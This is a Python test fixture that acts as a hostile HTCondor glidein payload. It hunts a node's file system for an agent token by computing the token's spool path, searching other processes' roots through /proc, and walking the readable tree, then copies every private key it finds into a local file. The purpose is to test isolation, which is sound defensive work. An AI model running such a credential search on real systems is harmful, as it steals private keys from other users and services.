"""A hostile payload in a glidein: hunt the node's file system for an agent token.

Run by tests/test_glidein.py as a job's payload, in a glidein without a
container (the process launcher: it runs as the glidein's own user, the
pool's job user). Arguments: folders the test names as likely places (the
factory's work dir on the submit side, the schedd's SPOOL). It looks
where a token would be, as an attacker who knows HTCondor would:

- the exact SPOOL path of its own glidein's spooled inputs, computed from
  the job ad the starter left in its scratch directory
  (SPOOL/CLUSTER%10000/PROC%10000/clusterC.procP.subproc0/agent-token.pem);
- the likely places: the given folders, SPOOL, its glidein's scratch
  directory, /tmp, /var/tmp, and the schedd's SPOOL through
  /proc/PID/root of every process (the daemons share the node);
- a broad walk of the whole readable tree (not /proc, /sys, /dev, /usr),
  reading up to 64 KiB of every file up to 1 MiB, 300 MiB in all.

Every file it can read that holds "PRIVATE KEY" is copied (bounded) into
found.out; the test searches that for the agent token's key. report.out
says what was searched and what was refused, so that the test can tell a
search that found nothing from one that never looked.
"""

import errno
import json
import os
import sys

TOKEN_NAME = "agent-token.pem"
SPOOL = "/var/lib/condor/spool"
FILE_LIMIT = 1 << 20
READ_LIMIT = 64 << 10
TOTAL_LIMIT = 300 << 20
FOUND_LIMIT = 16 << 20

report = {"exact": {}, "roots": {}, "proc_roots": {}, "files_read": 0, "bytes_read": 0, "found": []}
found = open("found.out", "wb")
found_bytes = 0
seen: set[tuple[int, int]] = set()


def error_name(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno, str(exc.errno))


def take(path: str) -> None:
    """Read PATH (bounded) and keep it if it holds a private key."""
    global found_bytes
    if report["bytes_read"] > TOTAL_LIMIT:
        return
    try:
        st = os.stat(path)
        if not os.path.isfile(path) or st.st_size > FILE_LIMIT or (st.st_dev, st.st_ino) in seen:
            return
        seen.add((st.st_dev, st.st_ino))
        with open(path, "rb") as handle:
            data = handle.read(READ_LIMIT)
    except OSError:
        return
    report["files_read"] += 1
    report["bytes_read"] += len(data)
    if b"PRIVATE KEY" in data:
        report["found"].append(path)
        if found_bytes < FOUND_LIMIT:
            found.write(b"\n== " + path.encode(errors="replace") + b"\n" + data)
            found_bytes += len(data)


def walk(root: str, skip: tuple[str, ...] = ()) -> dict:
    """Every readable file below ROOT; what was refused, counted."""
    summary = {"files": 0, "refused": 0}
    before = report["files_read"]
    try:
        os.listdir(root)
    except OSError as exc:
        return {"error": error_name(exc)}

    def refused(exc: OSError) -> None:
        summary["refused"] += 1

    for directory, dirs, names in os.walk(root, onerror=refused):
        dirs[:] = [d for d in dirs if os.path.join(directory, d) not in skip
                   and not os.path.islink(os.path.join(directory, d))]
        for name in names:
            path = os.path.join(directory, name)
            if not os.path.islink(path):
                take(path)
    summary["files"] = report["files_read"] - before
    return summary


def job_ad_ids(scratch: str) -> tuple[int, int] | None:
    try:
        with open(os.path.join(scratch, ".job.ad")) as handle:
            ad = dict(line.split(" = ", 1) for line in handle.read().splitlines() if " = " in line)
        return int(ad["ClusterId"]), int(ad["ProcId"])
    except (OSError, KeyError, ValueError):
        return None


# The glidein's scratch directory: the sandbox is SCRATCH/splitpilot/agent/job-J-A/sandbox.
scratch = os.getcwd()
for _ in range(4):
    scratch = os.path.dirname(scratch)
ids = job_ad_ids(scratch)
report["scratch"] = scratch
report["job_ad"] = ids
if ids is not None:
    cluster, proc = ids
    exact = f"{SPOOL}/{cluster % 10000}/{proc % 10000}/cluster{cluster}.proc{proc}.subproc0/{TOKEN_NAME}"
    for path in (exact, os.path.join(scratch, TOKEN_NAME)):
        try:
            with open(path, "rb") as handle:
                data = handle.read(READ_LIMIT)
            report["exact"][path] = "READ"
            report["found"].append(path)
            found.write(b"\n== " + path.encode() + b"\n" + data)
        except OSError as exc:
            report["exact"][path] = error_name(exc)

for root in [*sys.argv[1:], SPOOL, scratch, "/tmp", "/var/tmp"]:
    report["roots"][root] = walk(root)

for pid in filter(str.isdigit, os.listdir("/proc")):
    path = f"/proc/{pid}/root{SPOOL}"
    try:
        os.listdir(path)
    except OSError as exc:
        report["proc_roots"][pid] = error_name(exc)
        continue
    report["proc_roots"][pid] = walk(path)

report["roots"]["/"] = walk("/", skip=("/proc", "/sys", "/dev", "/usr"))
found.close()
with open("report.out", "w") as handle:
    json.dump(report, handle, indent=1)
